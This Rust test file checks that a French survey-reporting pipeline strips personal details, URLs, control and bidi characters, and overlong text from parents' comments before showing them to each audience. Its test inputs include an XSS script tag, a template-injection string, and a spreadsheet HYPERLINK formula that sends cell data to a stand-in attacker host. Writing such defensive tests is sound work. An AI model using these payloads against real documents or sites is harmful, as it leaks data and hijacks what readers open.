//! Hostile comments: names, telephones, addresses, markup, formulas, invisible characters, texts
//! without end. What comes out is safe and still says something.

use observatoire::disclosure::{Audience, ClearedDelivery, ClearedWords};
use observatoire::figures::voices::{Interview, OpenAnswer, Remark, Voices};

use super::worlds::Campaigns;

const HOSTILE: [&str; 12] = [
    "La cantine <script>alert('x')</script> est bruyante",
    "=HYPERLINK(\"http://voleur.example/?\"&A1;\"cantine\") trop chère",
    "La cantine : appelez le 06 12 34 56 78 ou +33 (0)6.98.76.54.32",
    "Ma fille Léa pleure à la cantine, mon fils lucas aussi",
    "Écrire à sandrine.dupont@mairie.fr ou voir www.notre-ecole.fr/cantine",
    "cantine \u{202e}erid ruop\u{202c} \u{2066}שלום\u{2069} مرحبا \u{200f}fin",
    "can\u{0}tine\u{7} \u{1b}[31mrouge\u{1b}[0m",
    "🎉🎉 la cantine 👨\u{200d}👩\u{200d}👧 est super",
    "La petite lola dort à la cantine, Mme MARTIN le sait",
    "z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301} cantine",
    "{{ 7 * 7 }} {% raw %} la cantine",
    "La cantine, rien à dire de plus",
];
/// Pieces that no reader may see.
const FORBIDDEN: [&str; 16] = [
    "06 12",
    "98.76",
    "Léa",
    "léa",
    "lucas",
    "sandrine.dupont",
    "mairie.fr",
    "notre-ecole",
    "lola",
    "MARTIN",
    "http",
    "\u{202e}",
    "\u{2066}",
    "\u{200f}",
    "\u{200d}",
    "\u{1b}",
];

fn voices(site: &str) -> Voices {
    let long = format!("La cantine {}", "bruit ".repeat(1_700));
    let endless = format!("cantine {}", "a".repeat(10_000));
    let mut texts: Vec<String> = HOSTILE.iter().map(|t| (*t).to_owned()).collect();
    texts.extend([long, endless]);
    let interview = |(i, text): (usize, &String)| Interview {
        structure: site.to_owned(),
        qui: "parent".to_owned(),
        critere: if i == 0 {
            "MUST".to_owned()
        } else {
            String::new()
        },
        themes: vec!["cantine".to_owned(), "bruit\u{202e}".to_owned()],
        propos: text.clone(),
    };
    Voices {
        interviews: texts.iter().enumerate().map(interview).collect(),
        remarks: texts
            .iter()
            .map(|text| Remark {
                structure: site.to_owned(),
                critere: String::new(),
                texte: text.clone(),
            })
            .collect(),
        families: texts
            .iter()
            .map(|text| OpenAnswer {
                structure: site.to_owned(),
                texte: text.clone(),
            })
            .collect(),
        ..Voices::default()
    }
}

fn said(words: &ClearedWords) -> Vec<String> {
    let all = words.keywords.iter().chain(&words.themes);
    let mut said: Vec<String> = all
        .flat_map(|w| w.quotes.iter().chain([&w.word]))
        .map(ToString::to_string)
        .collect();
    said.extend(
        words
            .remarks
            .iter()
            .flat_map(|r| [r.critere.clone(), r.texte.to_string()]),
    );
    said
}

fn everything(d: &ClearedDelivery) -> Vec<String> {
    let sites = d.sites.iter().flat_map(|s| said(&s.words));
    sites.chain(said(&d.territory.words)).collect()
}

#[test]
fn hostile_comments_come_out_safe_and_legible() {
    let campaigns = Campaigns::draw(3);
    let campaign = &campaigns.after;
    let voices = voices(&campaign.structures[0].code);
    for audience in Audience::ALL {
        let delivery = campaign.deliver_with(audience, None, &voices);
        let texts = everything(&delivery);
        for text in &texts {
            let bad = FORBIDDEN.iter().find(|f| text.contains(**f));
            assert!(bad.is_none(), "{audience:?} {bad:?} in {text}");
            assert!(text.chars().count() <= 260, "{text}");
            assert!(!text.chars().any(char::is_control), "{text:?}");
            assert!(text.split(' ').all(|w| w.chars().count() <= 42), "{text}");
        }
        let quotes = delivery
            .territory
            .words
            .keywords
            .iter()
            .chain(&delivery.territory.words.themes);
        let quoted = quotes.filter(|w| !w.quotes.is_empty()).count();
        match audience {
            Audience::Equipe => assert!(texts.len() > 10, "{texts:?}"),
            Audience::Elus | Audience::Renouvellement => assert!(quoted > 0),
            Audience::Familles => assert!(!texts.is_empty() && quoted == 0),
            // Aggregates hold no word.
            Audience::Pratiques | Audience::Departement => assert!(texts.is_empty()),
        }
    }
}

/// « cantine » is said; a sentence that names someone is not, not even in part.
#[test]
fn what_remains_still_says_something() {
    let campaigns = Campaigns::draw(3);
    let campaign = &campaigns.after;
    let delivery = campaign.deliver_with(
        Audience::Equipe,
        None,
        &voices(&campaign.structures[0].code),
    );
    let remarks = &delivery.sites[0].words.remarks;
    let texts: Vec<&str> = remarks.iter().map(|r| r.texte.as_str()).collect();
    assert!(
        texts.iter().filter(|t| t.contains("cantine")).count() >= 5,
        "{texts:#?}"
    );
    assert!(
        !texts
            .iter()
            .any(|t| t.contains("Ma fille") || t.contains("petite")),
        "{texts:#?}"
    );
    assert!(texts.iter().any(|t| t.contains("<script>")), "{texts:#?}");
}

/// Comments on an impératif are never printed, wherever the critère is said.
#[test]
fn nothing_is_printed_on_an_imperatif() {
    let campaigns = (0..100)
        .map(Campaigns::draw)
        .find(|c| c.after.referentiel.criteres.iter().any(|k| k.imperatif));
    let campaign = &campaigns.expect("an impératif").after;
    let r = &campaign.referentiel;
    let must = r
        .criteres
        .iter()
        .find(|c| c.imperatif)
        .expect("an impératif");
    let element = &r.elements[must.elements[0]].code;
    let site = &campaign.structures[0].code;
    let remark = |critere: &str, texte: &str| Remark {
        structure: site.clone(),
        critere: critere.to_owned(),
        texte: texte.to_owned(),
    };
    let voices = Voices {
        remarks: vec![
            remark(&must.code, "le portail ferme mal"),
            remark(element, "le portail ferme mal"),
            remark("", &format!("sur {} : le portail ferme mal", must.code)),
            remark("", "le goûter est bon"),
        ],
        ..Voices::default()
    };
    let delivery = campaign.deliver_with(Audience::Equipe, None, &voices);
    let texts: Vec<&str> = delivery.sites[0]
        .words
        .remarks
        .iter()
        .map(|r| r.texte.as_str())
        .collect();
    assert_eq!(texts, ["le goûter est bon"]);
}
